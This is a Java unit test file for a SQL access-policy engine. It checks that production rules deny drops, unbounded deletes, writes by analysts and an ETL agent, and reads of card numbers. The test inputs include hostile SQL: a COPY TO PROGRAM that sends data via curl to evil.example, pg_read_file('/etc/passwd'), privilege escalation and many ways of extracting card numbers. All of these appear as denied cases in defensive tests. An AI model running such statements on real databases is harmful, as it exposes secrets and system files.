package dev.parapet.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parapet.policy.Rule.ProtectTables.Access;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The demo's production policy, decided on real analyses, including the usual ways around it. */
class PolicyEngineTest {

    private static final RuleScope PROD = RuleScope.EVERYWHERE.inEnvironments("prod");

    private final SqlAnalyzer analyzer = new SqlAnalyzer(Dialect.POSTGRES);
    private final PolicyEngine engine = new PolicyEngine(List.of(
            new Rule.DenyStatementKinds("no-drop-in-prod", "nobody drops or truncates in production", PROD,
                    Set.of(StatementKind.DROP, StatementKind.TRUNCATE)),
            new Rule.RequireWhere("where-required", "UPDATE and DELETE must name their rows", PROD),
            new Rule.ReadOnly("analysts-read-only", null, PROD.forGroups("analysts", "agents")),
            new Rule.ProtectTables("agent-no-cards", "the ETL agent never reads card numbers",
                    PROD.forGroups("agents"), List.of("public.payment_cards"), Set.of(Access.READ)),
            new Rule.DenyFunctions("no-server-files", null, RuleScope.EVERYWHERE,
                    Set.of("pg_read_file", "pg_read_binary_file", "lo_import", "dblink")),
            new Rule.RequireApproval("dba-ddl-approval", "schema changes in prod are reviewed", PROD.forGroups("dba"),
                    Set.of(StatementKind.CREATE, StatementKind.ALTER, StatementKind.DROP)),
            new Rule.DenyMultipleStatements("one-statement", null, RuleScope.EVERYWHERE.inEnvironments("prod").shadow())));

    private static final Principal ALICE = new Principal("alice", Set.of("analysts"), Principal.Kind.HUMAN);
    private static final Principal BOB = new Principal("bob", Set.of("dba"), Principal.Kind.HUMAN);
    private static final Principal AGENT = new Principal("etl-agent", Set.of("agents"), Principal.Kind.SERVICE);

    private Decision decide(Principal who, String environment, String sql) {
        return engine.decide(new PolicyRequest(who, environment.equals("prod") ? "prod" : "staging", environment,
                analyzer.analyze(sql)));
    }

    private void assertDenied(Principal who, String sql, String rule) {
        assertThat(decide(who, "prod", sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class, deny -> {
            assertThat(deny.ruleId()).isEqualTo(rule);
            assertThat(deny.sqlState()).isEqualTo("42501");
            assertThat(deny.message()).contains(rule);
        });
    }

    private void assertAllowed(Principal who, String environment, String sql) {
        assertThat(decide(who, environment, sql)).as(sql).isInstanceOf(Decision.Allow.class);
    }

    @Test
    void deniesDropAndTruncateInProdOnlyHoweverTheyAreWritten() {
        assertDenied(BOB, "DROP TABLE customers", "no-drop-in-prod");
        assertDenied(BOB, "/* cleanup */ dRoP   table \"customers\" cascade", "no-drop-in-prod");
        assertDenied(BOB, "select 1; truncate orders", "no-drop-in-prod");
        assertDenied(BOB, "prepare p as truncate orders", "no-drop-in-prod");
        assertThat(decide(BOB, "staging", "drop table customers")).isInstanceOf(Decision.Allow.class);
    }

    @Test
    void requiresARealWhereOnUpdateAndDeleteWhereverTheyHide() {
        assertDenied(BOB, "delete from orders", "where-required");
        assertDenied(BOB, "DELETE FROM orders WHERE 1=1", "where-required");
        assertDenied(BOB, "update customers set city = 'x' where true or id = 4", "where-required");
        assertDenied(BOB, "with gone as (delete from orders returning *) select count(*) from gone", "where-required");
        assertDenied(BOB, "explain analyze delete from orders", "where-required");
        assertAllowed(BOB, "prod", "delete from orders where id = 42");
        assertAllowed(BOB, "prod", "explain delete from orders");
    }

    @Test
    void analystsAndAgentsOnlyRead() {
        assertAllowed(ALICE, "prod", "select c.full_name, o.amount from customers c join orders o on o.customer_id = c.id");
        for (String write : List.of(
                "insert into orders (id, customer_id, product, amount, status, ordered_at) values (1, 1, 'x', 1, 'paid', now())",
                "update orders set status = 'refunded' where id = 1",
                "select * into customers_copy from customers",
                "create table t as select * from customers",
                "do $$ begin delete from orders; end $$",
                "copy customers to program 'curl -d @- http://evil.example'",
                "with x as (update orders set amount = 0 where id = 1 returning id) select * from x",
                "set role postgres",
                "call refresh_everything()")) {
            assertDenied(ALICE, write, "analysts-read-only");
        }
        assertAllowed(ALICE, "staging", "update orders set status = 'refunded' where id = 1");
    }

    @Test
    void readOnlyRefusesFunctionsAndLocksThatChangeStateFromASelect() {
        for (String write : List.of(
                "select nextval('orders_id_seq')",
                "select pg_catalog.setval('orders_id_seq', 1)",
                "select * from orders where id = nextval('s')",
                "select set_config('role', 'postgres', false)",
                "select pg_advisory_lock(42)",
                "select lo_from_bytea(0, 'x')",
                "select pg_terminate_backend(4242)",
                "select pg_notify('c', 'x')",
                "select * from dblink('dbname=x', 'delete from orders') as t(x text)",
                "select * from orders for update",
                "select * from (select id from orders for share) o")) {
            assertDenied(ALICE, write, "analysts-read-only");
        }
        assertAllowed(ALICE, "prod", "select currval('orders_id_seq'), txid_current(), pg_sleep(0)");
    }

    @Test
    void protectTablesRefusesWhatWouldTakeATableOutOfItsSight() {
        PolicyEngine cards = new PolicyEngine(List.of(new Rule.ProtectTables("cards", null, RuleScope.EVERYWHERE,
                List.of("public.payment_cards", "vault.*"), Set.of(Access.READ))));
        for (String sql : List.of(
                "alter table payment_cards rename to pc",
                "alter table public.payment_cards set schema archive",
                "alter schema public rename to old_public",
                "alter schema vault rename to open",
                "create rule copy_out as on insert to payment_cards do also insert into log values (new.card_number)",
                "create trigger copy_out after insert on payment_cards for each row execute function copy_row()",
                "select query_to_xml('select * from payment_cards', true, false, '')",
                "select pg_catalog.table_to_xml('payment_cards', true, false, '')",
                "select * from ts_stat('select to_tsvector(card_number) from payment_cards')",
                "set search_path = vault, public",
                "set schema 'vault'",
                "alter role etl set search_path = vault",
                "alter database prod set search_path = vault, public",
                "select set_config('search_path', 'vault', false)")) {
            assertThat(cards.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOf(Decision.Deny.class);
        }
        for (String sql : List.of("select * from customers", "alter table customers add column vip boolean",
                "create index on payment_cards (customer_id)", "set statement_timeout = 0",
                "select current_setting('search_path')")) {
            assertThat(cards.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOf(Decision.Allow.class);
        }
        PolicyEngine oneTable = new PolicyEngine(List.of(new Rule.ProtectTables("cards", null, RuleScope.EVERYWHERE,
                List.of("public.payment_cards"), Set.of(Access.READ))));
        assertThat(oneTable.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze("set search_path = vault"))))
                .as("an unqualified name matches a named table anyway, so the search path does not matter")
                .isInstanceOf(Decision.Allow.class);
    }

    @Test
    void deniedFunctionsLeftInDefinitionsAreRefused() {
        for (String sql : List.of(
                "create table t (a text default pg_read_file('/etc/passwd'))",
                "create table t (a text, check (pg_read_file('x') is not null))",
                "alter table customers add column leak text default pg_catalog.pg_read_file('x')",
                "create operator ### (function = pg_read_file, rightarg = text)")) {
            assertDenied(BOB, sql, "no-server-files");
        }
    }

    @Test
    void theAgentCannotReadCardNumbersByAnyRoute() {
        assertAllowed(AGENT, "prod", "select id, email from customers");
        for (String read : List.of(
                "select * from payment_cards",
                "select card_number from public.payment_cards",
                "select c.email, p.card_number from customers c join payment_cards p on p.customer_id = c.id",
                "with p as (select * from payment_cards) select * from p",
                "select (select card_number from payment_cards limit 1)",
                "select email from customers union all select card_number from payment_cards",
                "copy (select * from payment_cards) to stdout")) {
            assertThat(decide(AGENT, "prod", read)).as(read).isInstanceOf(Decision.Deny.class);
        }
    }

    @Test
    void deniesServerFileFunctionsEvenSchemaQualified() {
        assertDenied(BOB, "select pg_read_file('/etc/passwd')", "no-server-files");
        assertDenied(BOB, "select pg_catalog.pg_read_file('postgresql.conf')", "no-server-files");
    }

    @Test
    void ddlByADbaWaitsForApprovalButADenyStillWins() {
        assertThat(decide(BOB, "prod", "alter table customers add column vip boolean"))
                .isInstanceOfSatisfying(Decision.RequireApproval.class, a -> assertThat(a.ruleId()).isEqualTo("dba-ddl-approval"));
        assertDenied(BOB, "drop index customers_email_idx", "no-drop-in-prod");
        assertAllowed(BOB, "prod", "select count(*) from customers");
    }

    @Test
    void shadowRulesReportWithoutEnforcing() {
        Decision decision = decide(BOB, "prod", "select 1; select 2");
        assertThat(decision).isInstanceOf(Decision.Allow.class);
        assertThat(decision.shadowed()).extracting(Decision.Verdict::ruleId).containsExactly("one-statement");
    }

    @Test
    void unreadableStatementsAreRefusedUnlessATargetAllowsThem() {
        StatementAnalysis unreadable = new StatementAnalysis.Unparseable("cannot read it", "?");
        Decision refused = engine.decide(new PolicyRequest(BOB, "prod", "prod", unreadable));
        assertThat(refused).isInstanceOfSatisfying(Decision.Deny.class, d -> {
            assertThat(d.ruleId()).isEqualTo(PolicyEngine.UNPARSEABLE_RULE);
            assertThat(d.sqlState()).isEqualTo("42601");
            assertThat(d.message()).contains("cannot read it");
        });
        PolicyEngine lenient = new PolicyEngine(List.of(new Rule.AllowUnparseable("legacy-sql", null,
                new RuleScope(Set.of("legacy"), Set.of(), Set.of(), Set.of(), Set.of(), RuleScope.Mode.ENFORCE))));
        assertThat(lenient.decide(new PolicyRequest(BOB, "legacy", "prod", unreadable))).isInstanceOf(Decision.Allow.class);
        assertThat(lenient.decide(new PolicyRequest(BOB, "prod", "prod", unreadable))).isInstanceOf(Decision.Deny.class);
    }

    @Test
    void stagingAllowsAnythingButDropDatabase() {
        PolicyEngine staging = new PolicyEngine(List.of(new Rule.DenyStatementKinds("keep-the-database", null,
                RuleScope.EVERYWHERE.inEnvironments("staging"), Set.of(StatementKind.DROP), Set.of("database"))));
        for (String sql : List.of("DROP DATABASE shop", "drop database if exists shop", "drop database \"shop\" with (force)",
                "select 1; drop database shop")) {
            assertThat(staging.decide(new PolicyRequest(BOB, "staging", "staging", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOfSatisfying(Decision.Deny.class,
                            deny -> assertThat(deny.message()).contains("DROP DATABASE statements are not allowed"));
        }
        for (String sql : List.of("drop table customers", "drop schema shop cascade", "truncate orders", "create database x")) {
            assertThat(staging.decide(new PolicyRequest(BOB, "staging", "staging", analyzer.analyze(sql)))).as(sql)
                    .isInstanceOf(Decision.Allow.class);
        }
        SqlAnalyzer mysql = new SqlAnalyzer(Dialect.MYSQL);
        for (String sql : List.of("DROP DATABASE shop", "DROP SCHEMA shop")) {
            assertThat(staging.decide(new PolicyRequest(BOB, "staging", "staging", Dialect.MYSQL, mysql.analyze(sql))))
                    .as(sql).isInstanceOf(Decision.Deny.class);
        }
    }

    @Test
    void approvalCanBeNarrowedToSomeObjectTypes() {
        PolicyEngine engine = new PolicyEngine(List.of(new Rule.RequireApproval("role-changes", null, RuleScope.EVERYWHERE,
                Set.of(StatementKind.CREATE, StatementKind.ALTER, StatementKind.DROP), Set.of("role", "user"))));
        assertThat(engine.decide(new PolicyRequest(BOB, "prod", "prod", analyzer.analyze("alter role app superuser"))))
                .isInstanceOfSatisfying(Decision.RequireApproval.class,
                        approval -> assertThat(approval.reason()).isEqualTo("ALTER ROLE needs approval here"));
        assertThat(engine.decide(new PolicyRequest(BOB, "prod", "prod", analyzer.analyze("alter table t add column c int"))))
                .isInstanceOf(Decision.Allow.class);
    }

    @Test
    void aRuleCanRefuseWithItsOwnSqlStateMessageAndHint() {
        PolicyEngine engine = new PolicyEngine(List.of(
                new Rule.RequireWhere("where-required", "UPDATE and DELETE must name their rows",
                        RuleScope.EVERYWHERE.refusing(new Refusal("P0001", null, "add a WHERE naming the rows"))),
                new Rule.DenyStatementKinds("no-truncate", "described", RuleScope.EVERYWHERE
                        .refusing(new Refusal(null, "truncating is for the nightly job only", null)),
                        Set.of(StatementKind.TRUNCATE))));
        assertThat(engine.decide(new PolicyRequest(BOB, "prod", "prod", analyzer.analyze("delete from orders"))))
                .isInstanceOfSatisfying(Decision.Deny.class, deny -> {
                    assertThat(deny.sqlState()).isEqualTo("P0001");
                    assertThat(deny.message()).isEqualTo("denied by rule \"where-required\": DELETE without a WHERE clause"
                            + " would change every row (UPDATE and DELETE must name their rows)");
                    assertThat(deny.hint()).isEqualTo("add a WHERE naming the rows");
                });
        assertThat(engine.decide(new PolicyRequest(BOB, "prod", "prod", analyzer.analyze("truncate orders"))))
                .isInstanceOfSatisfying(Decision.Deny.class, deny -> {
                    assertThat(deny.sqlState()).isEqualTo("42501");
                    assertThat(deny.message()).isEqualTo("denied by rule \"no-truncate\": truncating is for the nightly job only");
                    assertThat(deny.hint()).contains("ask for an approval");
                });
    }

    @Test
    void theStrictestEnforcedRowLimitAppliesAndShadowLimitsOnlyWhenNoneIsEnforced() {
        PolicyEngine limits = new PolicyEngine(List.of(
                new Rule.MaxRows("agents-1000", null, PROD.forGroups("agents"), 1000, RowLimit.Action.NOTICE),
                new Rule.MaxRows("everyone-5000", null, PROD, 5000, RowLimit.Action.ERROR),
                new Rule.MaxRows("trial-100", null, RuleScope.EVERYWHERE.inEnvironments("staging").shadow(), 100,
                        RowLimit.Action.ERROR),
                new Rule.ReadOnly("agents-read-only", null, PROD.forGroups("agents"))));
        java.util.function.BiFunction<Principal, String, Decision> decide = (who, environment) -> limits.decide(
                new PolicyRequest(who, environment, environment, analyzer.analyze("select * from customers")));

        assertThat(decide.apply(AGENT, "prod")).isInstanceOfSatisfying(Decision.Allow.class, allow ->
                assertThat(allow.rowLimit()).contains(new RowLimit("agents-1000", 1000, RowLimit.Action.NOTICE, false)));
        assertThat(decide.apply(ALICE, "prod")).isInstanceOfSatisfying(Decision.Allow.class, allow ->
                assertThat(allow.rowLimit()).contains(new RowLimit("everyone-5000", 5000, RowLimit.Action.ERROR, false)));
        assertThat(decide.apply(ALICE, "staging")).isInstanceOfSatisfying(Decision.Allow.class, allow ->
                assertThat(allow.rowLimit()).contains(new RowLimit("trial-100", 100, RowLimit.Action.ERROR, true)));
        assertThat(decide.apply(ALICE, "dev")).isInstanceOfSatisfying(Decision.Allow.class, allow ->
                assertThat(allow.rowLimit()).isEmpty());
        assertThat(limits.decide(new PolicyRequest(AGENT, "prod", "prod", analyzer.analyze("delete from customers where id = 1"))))
                .isInstanceOf(Decision.Deny.class);
    }

    private static PolicyEngine columnRules() {
        return new PolicyEngine(List.of(
                new Rule.DenyColumns("no-card-numbers", null, PROD.forGroups("agents"),
                        List.of("public.payment_cards.card_number", "customers.ssn")),
                new Rule.AllowColumns("analyst-card-columns", null, PROD.forGroups("analysts"), "payment_cards",
                        Set.of("id", "customer_id", "last4")),
                new Rule.AllowTables("agent-tables", null, PROD.forGroups("agents"),
                        List.of("public.*", "customers", "payment_cards", "pg_catalog.*"))));
    }

    private static Decision decideWith(PolicyEngine engine, Principal who, String sql) {
        return engine.decide(new PolicyRequest(who, "prod", "prod", new SqlAnalyzer(Dialect.POSTGRES).analyze(sql)));
    }

    @Test
    void aDeniedColumnCannotBeReachedByStarWholeRowsRenamingOrSubqueries() {
        PolicyEngine engine = columnRules();
        for (String sql : List.of(
                "select card_number from payment_cards",
                "SELECT \"card_number\" FROM public.payment_cards",
                "select * from payment_cards",
                "select p.* from payment_cards p",
                "table payment_cards",
                "select row_to_json(p) from payment_cards p",
                "select json_agg(payment_cards) from payment_cards",
                "select (p).card_number from payment_cards p",
                "select a from payment_cards as p(a, b, c)",
                "select x.n from (select card_number as n from payment_cards) x",
                "with c as (select card_number from payment_cards) select * from c",
                "select 1 from payment_cards where card_number like '4%'",
                "copy payment_cards to stdout",
                "copy (select card_number from payment_cards) to stdout",
                "select id from customers where ssn = '1'",
                "select id from payment_cards union select length(card_number) from payment_cards")) {
            assertThat(decideWith(engine, AGENT, sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class,
                    d -> assertThat(d.ruleId()).isEqualTo("no-card-numbers"));
        }
        for (String sql : List.of("select id, last4 from payment_cards", "select count(*) from payment_cards",
                "select p.id from payment_cards p join customers c on c.id = p.customer_id")) {
            assertThat(decideWith(engine, AGENT, sql)).as(sql).isInstanceOf(Decision.Allow.class);
        }
    }

    @Test
    void anAllowListOfColumnsRefusesEverythingElseOfThatTable() {
        PolicyEngine engine = columnRules();
        assertThat(decideWith(engine, ALICE, "select id, last4 from payment_cards where customer_id = 3"))
                .isInstanceOf(Decision.Allow.class);
        assertThat(decideWith(engine, ALICE, "select email from customers")).isInstanceOf(Decision.Allow.class);
        for (String sql : List.of("select * from payment_cards", "select expiry from payment_cards",
                "select id from payment_cards p where p.card_number is not null", "select p from payment_cards p")) {
            assertThat(decideWith(engine, ALICE, sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class,
                    d -> assertThat(d.ruleId()).isEqualTo("analyst-card-columns"));
        }
    }

    @Test
    void anAllowListOfTablesRefusesTablesOutsideIt() {
        PolicyEngine engine = columnRules();
        assertThat(decideWith(engine, AGENT, "select id from public.orders")).isInstanceOf(Decision.Allow.class);
        assertThat(decideWith(engine, AGENT, "select id from customers")).isInstanceOf(Decision.Allow.class);
        assertThat(decideWith(engine, AGENT, "select relname from pg_catalog.pg_class")).isInstanceOf(Decision.Allow.class);
        for (String sql : List.of("select * from secret.keys", "select id from orders",
                "select id from customers where id in (select customer_id from audit.logins)")) {
            assertThat(decideWith(engine, AGENT, sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class,
                    d -> assertThat(d.ruleId()).isEqualTo("agent-tables"));
        }
    }

    @Test
    void aNarrowingRuleLetsAPlainStarQueryRunWithoutTheColumnsButNothingElse() {
        PolicyEngine engine = new PolicyEngine(List.of(new Rule.DenyColumns("cards-narrowed", null, PROD,
                List.of("payment_cards.card_number"), true)));
        for (String sql : List.of("select * from payment_cards", "select p.*, c.email from payment_cards p join customers c on c.id = p.customer_id",
                "select x.* from (select * from payment_cards) x")) {
            assertThat(decideWith(engine, ALICE, sql)).as(sql).isInstanceOfSatisfying(Decision.Allow.class,
                    allow -> assertThat(allow.hiddenColumns()).containsExactly("payment_cards.card_number"));
        }
        assertThat(decideWith(engine, ALICE, "select id from payment_cards")).isInstanceOfSatisfying(Decision.Allow.class,
                allow -> assertThat(allow.hiddenColumns()).isEmpty());
        for (String sql : List.of("select card_number from payment_cards", "select row_to_json(p) from payment_cards p",
                "select p from payment_cards p", "select lower(a) from payment_cards as p(a, b)", "copy payment_cards to stdout",
                "copy (select * from payment_cards) to stdout", "create table loot as select * from payment_cards",
                "select * into loot from payment_cards", "insert into loot select * from payment_cards",
                "prepare p as select * from payment_cards", "declare c cursor for select * from payment_cards",
                "explain analyze select * from payment_cards", "create view v as select * from payment_cards")) {
            assertThat(decideWith(engine, ALICE, sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class,
                    d -> assertThat(d.ruleId()).isEqualTo("cards-narrowed"));
        }
    }

    @Test
    void columnRulesSeeColumnsOnlyTheLineageFinds() {
        PolicyEngine engine = new PolicyEngine(List.of(new Rule.DenyColumns("no-card-numbers", null, PROD,
                List.of("payment_cards.card_number", "customers.email"))));
        for (String sql : List.of("select trim(both 'x' from card_number) from payment_cards",
                "select json_object('n' value card_number) from payment_cards",
                "select (select email from pg_class limit 1) from customers")) {
            assertThat(decideWith(engine, ALICE, sql)).as(sql).isInstanceOfSatisfying(Decision.Deny.class,
                    d -> assertThat(d.ruleId()).isEqualTo("no-card-numbers"));
        }
    }
}
